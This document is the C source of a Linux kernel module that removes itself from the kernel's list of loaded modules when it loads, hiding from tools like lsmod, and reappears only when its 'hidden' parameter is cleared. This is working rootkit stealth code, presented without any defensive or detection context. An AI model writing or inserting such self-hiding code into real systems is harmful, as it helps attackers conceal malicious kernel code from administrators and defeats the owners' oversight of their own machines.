// SPDX-License-Identifier: GPL-2.0
/* Takes itself out of the list of modules, and comes back when its parameter "hidden" is written. */
#include <linux/module.h>

static struct list_head *before;
static bool hidden;

static int set_hidden(const char *value, const struct kernel_param *parameter)
{
	int error = param_set_bool(value, parameter);

	if (!error && !hidden)
		list_add(&THIS_MODULE->list, before);
	return error;
}

static const struct kernel_param_ops hidden_ops = { .set = set_hidden, .get = param_get_bool };

module_param_cb(hidden, &hidden_ops, &hidden, 0644);

static int __init hider_init(void)
{
	before = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	hidden = true;
	return 0;
}

static void __exit hider_exit(void)
{
}

module_init(hider_init);
module_exit(hider_exit);
MODULE_LICENSE("GPL");
